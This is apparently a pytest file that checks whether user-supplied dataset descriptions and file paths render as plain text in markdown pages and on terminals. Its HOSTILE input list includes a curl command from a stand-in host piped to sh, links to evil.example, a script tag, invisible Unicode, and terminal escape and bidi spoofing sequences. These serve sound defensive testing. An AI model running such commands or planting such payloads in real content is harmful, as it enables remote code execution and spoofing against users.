"""Text of strangers stays text: on pages, and on a terminal."""

import json
import os
import pty
import sqlite3
import subprocess
import unicodedata
from contextlib import closing

import pytest
from markdown_it import MarkdownIt

import mounts
import sql

HOSTILE = [
    "# heading",
    "heading\n=======",
    "heading\n---",
    "    curl http://evil.example | sh",
    "\tcurl",
    "- item\n+ item\n* item",
    "1. item\n2) item",
    "> quote",
    "---\n***\n___",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "`code` ``code``",
    "[a](http://evil.example) ![b](http://evil.example/x.png)",
    "[a]: http://evil.example\n[a]",
    "<http://evil.example> <b>bold</b> <!-- hidden --> <script>x</script>",
    "http://evil.example https://evil.example/?q=1 www.evil.example ftp://evil.example",
    "mail me@evil.example mailto:me@evil.example",
    "| a | b |\n|---|---|\n| c | d |",
    "&lt;b&gt; &#60; &copy;",
    "*emphasis* __strong__ ~~gone~~ a*b*c",
    "a\\\nb  \nc",
    "\\# \\[x](y)",
    "$$x$$ :smile: [^1]\n\n[^1]: note",
    "tags \U000e0049\U000e0047 bidi \u202e\u2066\u061c zero \u200b\u2060\ufeff selectors \ufe01\U000e0101 filler \u3164",
    "\x1b[31mred\x1b[0m \x9b2J \x07 \x00",
    "Using it\n--------\n\n1. run `x`\n",
]

WORDS = {"paragraph_open", "paragraph_close", "inline"}
INLINE = {"text", "text_special", "softbreak"}


def described(small_catalog, tmp_path, text):
    catalog = sql.copy_catalog(small_catalog, tmp_path / "catalog")
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        db.execute("UPDATE datasets SET description = ? WHERE name = 'few'", (text,))
    return catalog


def between(tokens, start, is_end):
    """The tokens after the first heading, up to where ours begin again."""
    end = next(n for n, token in enumerate(tokens) if n > start and is_end(token))
    return tokens[start:end]


def hidden(text):
    return [hex(ord(c)) for c in text if unicodedata.category(c) in ("Cc", "Cf") and c != "\n" or 0xE0000 <= ord(c) < 0xE1000 or 0xFE00 <= ord(c) < 0xFE10]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_description_is_words_on_every_page(dcfs, small_catalog, tmp_path, text):
    catalog = described(small_catalog, tmp_path, text)
    page = dcfs.ok("lineage", "few", "--catalog", catalog)
    assert not hidden(page)
    tokens = MarkdownIt("gfm-like").parse(page)
    theirs = between(tokens, 3, lambda token: token.type == "table_open")
    assert {token.type for token in theirs} <= WORDS
    inline = {child.type for token in theirs for child in token.children or []}
    assert inline <= INLINE, inline


@pytest.mark.mount
def test_a_description_is_words_on_the_mount(dcfs, small_catalog, tmp_path):
    catalog = described(small_catalog, tmp_path, "\n\n".join(HOSTILE).replace("\x00", ""))
    with dcfs.mount(catalog, tmp_path / "mnt") as mount:
        page = (mount.datasets / "few" / "_README.md").read_text()
    assert not hidden(page)
    theirs = between(MarkdownIt("gfm-like").parse(page), 3, lambda token: token.content.startswith("This directory is version"))
    assert {token.type for token in theirs} <= WORDS
    assert {child.type for token in theirs for child in token.children or []} <= INLINE


def on_a_terminal(dcfs, *words):
    """The output of a command on a terminal."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen([mounts.DCFS, *map(str, words)], env=dcfs.environment, stdout=theirs, stderr=theirs, stdin=subprocess.DEVNULL)
    os.close(theirs)
    out = b""
    while True:
        try:
            part = os.read(ours, 65536)
        except OSError:
            break
        if not part:
            break
        out += part
    os.close(ours)
    process.wait()
    return out.decode()


@pytest.mark.parametrize("form", ["table", "csv", "jsonl"])
def test_a_terminal_is_never_told_what_to_do(dcfs, small_catalog, tmp_path, form):
    catalog = sql.copy_catalog(small_catalog, tmp_path / "catalog")
    evil = "\x1b[2J\x1b]0;title\x07\u202egpj.exe\U000e0041\u2066"
    with closing(sqlite3.connect(catalog / ".datachain" / "db")) as db, db:
        db.execute(f"UPDATE {sql.table_of('few')} SET file__path = file__path || ?", (evil,))
    shown = on_a_terminal(dcfs, "show", "few", "--format", form, "--catalog", catalog)
    assert "gpj.exe" in shown
    assert not [c for c in hidden(shown) if c not in ("0xd", "0x9")], shown[:300]
    if form == "jsonl":
        # Escapes in JSON are JSON escapes.
        assert all(evil in json.loads(line)["file"]["path"] for line in shown.splitlines())
    piped = dcfs.ok("show", "few", "--format", "csv", "--catalog", catalog)
    assert evil in piped, "a program reads what is recorded"
